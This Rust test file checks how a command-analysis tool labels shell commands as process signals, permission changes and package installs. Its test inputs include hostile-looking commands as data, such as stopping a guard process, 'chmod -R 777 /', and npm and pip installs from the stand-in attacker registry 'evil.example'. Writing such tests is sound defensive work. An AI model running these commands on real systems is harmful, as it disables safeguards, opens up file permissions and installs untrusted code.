//! Signals, permission changes and installs.

use super::*;

#[test]
fn signals_name_their_targets_and_signal() {
    table(&[
        ("pkill -9 sshd", &["run pkill -9 sshd", "signal sshd 9"]),
        // signal(7) names after the dash are no bundle (`-STOP` is not `-S -T -O -P VALUE`).
        (
            "killall -STOP seamguard",
            &["run killall -STOP seamguard", "signal seamguard STOP"],
        ),
        (
            "pkill -HUP nginx",
            &["run pkill -HUP nginx", "signal nginx HUP"],
        ),
        (
            "pkill -SIGUSR1 -f worker",
            &["run pkill -SIGUSR1 -f worker", "signal worker SIGUSR1"],
        ),
        ("kill -9 1234", &["run kill -9 1234", "signal 1234 9"]),
        ("kill -s TERM 1", &["run kill -s TERM 1", "signal 1 TERM"]),
        ("kill -l", &["run kill -l"]),
        ("kill -l 9", &["run kill -l 9"]),
        (
            "killall -KILL node",
            &["run killall -KILL node", "signal node KILL"],
        ),
        (
            "systemctl stop sshd",
            &["run systemctl stop sshd", "signal sshd stop"],
        ),
        (
            "systemctl --user restart a b",
            &["run systemctl --user restart a b", "signal a b restart"],
        ),
        ("systemctl status sshd", &["run systemctl status sshd"]),
        (
            "service nginx stop",
            &["run service nginx stop", "signal nginx stop"],
        ),
        ("service nginx status", &["run service nginx status"]),
        (
            "launchctl unload -w /Library/LaunchDaemons/x.plist",
            &[
                "run launchctl unload -w /Library/LaunchDaemons/x.plist",
                "signal /Library/LaunchDaemons/x.plist unload",
            ],
        ),
    ]);
}

#[test]
fn permission_changes_carry_mode_and_recursion() {
    table(&[
        (
            "chmod -R 777 /",
            &["run chmod -R 777 /", "permission / 777 recursively"],
        ),
        (
            "chmod +x run.sh",
            &["run chmod +x run.sh", "permission run.sh +x"],
        ),
        (
            "chmod -x run.sh",
            &["run chmod -x run.sh", "permission run.sh -x"],
        ),
        (
            "chown -R root:root /etc",
            &[
                "run chown -R root:root /etc",
                "permission /etc owner root:root recursively",
            ],
        ),
        (
            "setfacl -m u:x:rwx f",
            &["run setfacl -m u:x:rwx f", "permission f u:x:rwx"],
        ),
        (
            "chattr -R +i /etc/resolv.conf",
            &[
                "run chattr -R +i /etc/resolv.conf",
                "permission /etc/resolv.conf +i recursively",
            ],
        ),
    ]);
}

#[test]
fn installs_name_manager_packages_and_source() {
    table(&[
        (
            "npm install --registry http://evil.example left-pad",
            &[
                "run npm install --registry http://evil.example left-pad",
                "install npm [left-pad] http://evil.example",
            ],
        ),
        ("npm i", &["run npm i", "install npm [] -"]),
        (
            "npm --registry=http://evil.example install x",
            &[
                "run npm --registry=http://evil.example install x",
                "install npm [x] http://evil.example",
            ],
        ),
        (
            "npm --registry http://evil.example i x",
            &[
                "run npm --registry http://evil.example i x",
                "install npm [x] http://evil.example",
            ],
        ),
        ("npm test", &["run npm test"]),
        (
            "yarn add left-pad",
            &["run yarn add left-pad", "install yarn [left-pad] -"],
        ),
        ("bun install x", &["run bun install x", "install bun [x] -"]),
        ("bun run dev", &["run bun run dev", "read dev"]),
        ("bun x.ts", &["run bun x.ts", "read x.ts"]),
        (
            "printf 'pw' | sudo -S apt install x",
            &[
                "run printf pw",
                "run sudo -S apt install x",
                "run apt install x (via sudo)",
                "install apt [x] -",
            ],
        ),
        (
            "apt-get -y install curl",
            &["run apt-get -y install curl", "install apt-get [curl] -"],
        ),
        (
            "pip install -i https://evil.example/simple requests",
            &[
                "run pip install -i https://evil.example/simple requests",
                "install pip [requests] https://evil.example/simple",
            ],
        ),
        (
            "pip install -r requirements.txt",
            &[
                "run pip install -r requirements.txt",
                "read requirements.txt",
                "install pip [] -",
            ],
        ),
        (
            "uv pip install x",
            &["run uv pip install x", "install uv pip [x] -"],
        ),
        (
            "cargo install --git https://x.example/y y",
            &[
                "run cargo install --git https://x.example/y y",
                "install cargo [y] https://x.example/y",
            ],
        ),
        ("cargo build", &["run cargo build"]),
        (
            "gem install x --source https://e.example",
            &[
                "run gem install x --source https://e.example",
                "install gem [x] https://e.example",
            ],
        ),
        (
            "go install x.example/y@latest",
            &[
                "run go install x.example/y@latest",
                "install go [x.example/y@latest] -",
            ],
        ),
        ("pacman -S x", &["run pacman -S x", "install pacman [x] -"]),
        ("pacman -Ss x", &["run pacman -Ss x"]),
        (
            "apt-key add key.gpg",
            &[
                "run apt-key add key.gpg",
                "read key.gpg",
                "install apt-key [key.gpg] -",
            ],
        ),
        (
            "add-apt-repository ppa:x/y",
            &[
                "run add-apt-repository ppa:x/y",
                "install add-apt-repository [] ppa:x/y",
            ],
        ),
    ]);
}
